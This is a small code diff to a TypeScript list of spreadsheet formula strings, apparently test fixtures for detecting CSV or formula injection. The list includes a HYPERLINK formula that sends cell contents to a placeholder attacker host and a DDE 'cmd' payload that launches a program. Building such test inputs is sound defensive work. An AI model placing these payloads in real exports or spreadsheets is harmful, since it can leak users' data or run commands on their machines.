@@ -32,7 +32,7 @@ const disguises = named('disguise', [
 export const formulas: readonly string[] = [
   '=1+1',
   '=HYPERLINK("https://evil.example/?"&A1,"a")',
-  '=cmd|\'/c calc\'!A1',
+  "=cmd|'/c calc'!A1",
   '+1+1',
   '-1+1',
   '@SUM(1,1)',
